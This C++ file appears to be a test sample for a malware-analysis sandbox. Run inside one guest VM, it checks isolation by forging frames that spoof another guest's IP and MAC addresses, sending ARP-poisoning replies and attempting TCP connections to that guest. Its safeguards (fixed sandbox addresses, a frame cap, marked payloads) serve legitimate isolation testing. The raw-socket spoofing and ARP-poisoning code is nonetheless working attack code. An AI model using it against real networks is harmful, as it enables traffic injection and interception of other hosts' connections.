// botscope-forger: the sample of the two-guest test (test_two_guests.cpp). Run in the second
// test guest (10.66.0.11), it pretends to be the first one (10.66.0.10, 52:54:00:b5:00:10) on
// the analysis network, the way a sample in one VM would try to put traffic into another VM's
// capture or answers into its connections:
//   - UDP with the first guest's source address, to that guest (its MAC, then broadcast) and to
//     the host; some frames also with the first guest's MAC as their source;
//   - ICMP echo requests to the host with the first guest's source address, whose replies would
//     carry the marker to the first guest;
//   - ARP replies claiming the first guest's address for this guest's MAC;
//   - ordinary TCP connections to the first guest's address, which must never reach it.
// Every payload starts with kMarker. It sends at most kMaxFrames frames, only to sandbox
// addresses, and refuses to run anywhere but on 10.66.0.11. What it did goes to stdout and
// /tmp/forger.log (collected as a dropped file).

#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <utility>
#include <vector>

namespace {

using Mac = std::array<std::uint8_t, 6>;

constexpr const char* kMarker = "BOTSCOPE-FORGED";
constexpr const char* kSelf = "10.66.0.11";
constexpr const char* kVictim = "10.66.0.10";
constexpr const char* kHost = "10.66.0.1";
constexpr const char* kBroadcast = "10.66.0.255";
constexpr Mac kVictimMac = {0x52, 0x54, 0x00, 0xb5, 0x00, 0x10};
constexpr Mac kHostMac = {0x52, 0x54, 0x00, 0xb5, 0x00, 0x01};  // analysis-network.xml
constexpr Mac kAll = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
constexpr std::uint16_t kPort = 31337;
constexpr int kRounds = 20;  // one round every 200 ms: 4 s
constexpr int kFramesPerRound = 8;
constexpr int kMaxFrames = 200;
static_assert(kRounds * kFramesPerRound <= kMaxFrames);

FILE* g_log = nullptr;

void say(const std::string& line) {
    std::printf("%s\n", line.c_str());
    std::fflush(stdout);
    if (g_log) {
        std::fprintf(g_log, "%s\n", line.c_str());
        std::fflush(g_log);
    }
}

std::uint32_t addr(const char* text) {
    in_addr a{};
    ::inet_pton(AF_INET, text, &a);
    return a.s_addr;  // network order
}

struct Interface {
    int index = 0;
    Mac mac{};
    std::uint32_t ip = 0;
};

bool find_interface(const char* name, Interface& out) {
    int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return false;
    ifreq r{};
    std::snprintf(r.ifr_name, sizeof r.ifr_name, "%s", name);
    bool ok = ::ioctl(fd, SIOCGIFINDEX, &r) == 0;
    out.index = r.ifr_ifindex;
    ok = ok && ::ioctl(fd, SIOCGIFHWADDR, &r) == 0;
    std::memcpy(out.mac.data(), r.ifr_hwaddr.sa_data, 6);
    r.ifr_addr.sa_family = AF_INET;
    ok = ok && ::ioctl(fd, SIOCGIFADDR, &r) == 0;
    out.ip = reinterpret_cast<sockaddr_in*>(&r.ifr_addr)->sin_addr.s_addr;
    ::close(fd);
    return ok;
}

/// Appends big-endian fields; frames are built whole, then sent once.
struct Frame {
    std::vector<std::uint8_t> b;
    void u8(std::uint8_t v) { b.push_back(v); }
    void u16(std::uint16_t v) { b.insert(b.end(), {std::uint8_t(v >> 8), std::uint8_t(v)}); }
    void raw(const void* p, std::size_t n) {
        auto* c = static_cast<const std::uint8_t*>(p);
        b.insert(b.end(), c, c + n);
    }
    void put16(std::size_t at, std::uint16_t v) {
        b[at] = std::uint8_t(v >> 8);
        b[at + 1] = std::uint8_t(v);
    }
};

std::uint16_t checksum(const std::uint8_t* p, std::size_t n, std::uint32_t sum = 0) {
    for (std::size_t i = 0; i + 1 < n; i += 2)
        sum += std::uint32_t(p[i] << 8 | p[i + 1]);
    if (n % 2)
        sum += std::uint32_t(p[n - 1] << 8);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return std::uint16_t(~sum);
}

void ethernet(Frame& f, const Mac& dst, const Mac& src, std::uint16_t type) {
    f.raw(dst.data(), 6);
    f.raw(src.data(), 6);
    f.u16(type);
}

/// IPv4 + (UDP or ICMP echo) carrying `payload`, after an Ethernet header.
Frame ip_frame(const Mac& dst_mac, const Mac& src_mac, std::uint32_t src, std::uint32_t dst,
               bool icmp, const std::string& payload, std::uint16_t id) {
    Frame f;
    ethernet(f, dst_mac, src_mac, ETHERTYPE_IP);
    std::size_t ip_at = f.b.size();
    std::size_t l4_len = 8 + payload.size();
    f.u8(0x45);
    f.u8(0);
    f.u16(std::uint16_t(20 + l4_len));
    f.u16(id);
    f.u16(0x4000);  // don't fragment
    f.u8(64);
    f.u8(icmp ? IPPROTO_ICMP : IPPROTO_UDP);
    f.u16(0);
    f.raw(&src, 4);
    f.raw(&dst, 4);
    f.put16(ip_at + 10, checksum(&f.b[ip_at], 20));
    std::size_t l4_at = f.b.size();
    if (icmp) {
        f.u8(8);  // echo request
        f.u8(0);
        f.u16(0);
        f.u16(0xb5f0);
        f.u16(id);
        f.raw(payload.data(), payload.size());
        f.put16(l4_at + 2, checksum(&f.b[l4_at], l4_len));
    } else {
        f.u16(kPort + 1);
        f.u16(kPort);
        f.u16(std::uint16_t(l4_len));
        f.u16(0);
        f.raw(payload.data(), payload.size());
        std::uint32_t pseudo = 0;
        for (std::uint32_t a : {src, dst}) {
            a = ntohl(a);
            pseudo += (a >> 16) + (a & 0xffff);
        }
        pseudo += IPPROTO_UDP + std::uint32_t(l4_len);
        std::uint16_t c = checksum(&f.b[l4_at], l4_len, pseudo);
        f.put16(l4_at + 6, c ? c : 0xffff);
    }
    return f;
}

/// "kVictim is at my MAC", to `dst_mac`: a poisoned neighbour entry would send the victim's
/// answers here.
Frame arp_claim(const Mac& dst_mac, const Mac& mine, std::uint32_t target_ip) {
    Frame f;
    ethernet(f, dst_mac, mine, ETHERTYPE_ARP);
    f.u16(1);       // Ethernet
    f.u16(0x0800);  // IPv4
    f.u8(6);
    f.u8(4);
    f.u16(2);  // reply
    f.raw(mine.data(), 6);
    std::uint32_t victim = addr(kVictim);
    f.raw(&victim, 4);
    f.raw(dst_mac.data(), 6);
    f.raw(&target_ip, 4);
    std::string pad = kMarker;  // in the padding, so that even ARP carries the marker
    f.raw(pad.data(), pad.size());
    return f;
}

std::vector<Frame> round_frames(const Interface& me, int round) {
    const std::uint32_t victim = addr(kVictim), host = addr(kHost), bcast = addr(kBroadcast);
    auto text = [&](const char* what) {
        return std::string(kMarker) + " " + what + " round " + std::to_string(round);
    };
    auto id = [&](int k) { return std::uint16_t(round * kFramesPerRound + k); };
    return {
        ip_frame(kVictimMac, me.mac, victim, victim, false, text("ip-to-guest"), id(0)),
        ip_frame(kVictimMac, kVictimMac, victim, victim, false, text("mac-to-guest"), id(1)),
        ip_frame(kAll, kVictimMac, victim, bcast, false, text("mac-broadcast"), id(2)),
        ip_frame(kAll, me.mac, victim, bcast, false, text("ip-broadcast"), id(3)),
        ip_frame(kHostMac, me.mac, victim, host, false, text("ip-to-host"), id(4)),
        ip_frame(kHostMac, kVictimMac, victim, host, false, text("mac-to-host"), id(5)),
        ip_frame(kHostMac, me.mac, victim, host, true, text("ping-host"), id(6)),
        arp_claim(kHostMac, me.mac, host),
    };
}

/// Ordinary connections from this guest's own address: to the first guest, where nothing must
/// answer (its port is isolated from this one), and to the host's own services (ssh, the test's
/// listener), where only fakenet may answer.
void try_connections() {
    const std::pair<const char*, int> targets[] = {
        {kVictim, 22}, {kVictim, 80}, {kVictim, 4444}, {kHost, 22}, {kHost, 2224}};
    for (auto [ip, port] : targets) {
        int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        timeval tv{1, 0};
        ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
        sockaddr_in a{};
        a.sin_family = AF_INET;
        a.sin_port = htons(std::uint16_t(port));
        a.sin_addr.s_addr = addr(ip);
        bool connected = ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
        std::string line = std::string("tcp ") + ip + ":" + std::to_string(port) + ": ";
        if (connected) {
            std::string hello = std::string(kMarker) + " tcp\n";
            ssize_t n = ::send(fd, hello.data(), hello.size(), MSG_NOSIGNAL);
            line += n > 0 ? "connected" : "connected, send failed";
        } else {
            line += std::string("no connection (") + std::strerror(errno) + ")";
        }
        say(line);
        ::close(fd);
    }
}

}  // namespace

int main() {
    Interface me;
    if (!find_interface("eth0", me) || me.ip != addr(kSelf)) {
        std::fprintf(stderr, "forger: eth0 is not %s: refusing to run outside the sandbox\n",
                     kSelf);
        return 2;
    }
    g_log = std::fopen("/tmp/forger.log", "w");
    int fd = ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        say(std::string("raw socket: ") + std::strerror(errno));
        return 1;
    }
    sockaddr_ll to{};
    to.sll_family = AF_PACKET;
    to.sll_ifindex = me.index;
    to.sll_halen = 6;
    int sent = 0, failed = 0;
    for (int round = 0; round < kRounds && sent + failed < kMaxFrames; ++round) {
        for (const Frame& f : round_frames(me, round)) {
            std::memcpy(to.sll_addr, f.b.data(), 6);
            bool ok = ::sendto(fd, f.b.data(), f.b.size(), 0, reinterpret_cast<sockaddr*>(&to),
                               sizeof to) == static_cast<ssize_t>(f.b.size());
            ++(ok ? sent : failed);
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(200));
    }
    ::close(fd);
    say("forged frames sent: " + std::to_string(sent) + ", failed: " + std::to_string(failed));
    try_connections();
    return sent > 0 ? 0 : 1;
}
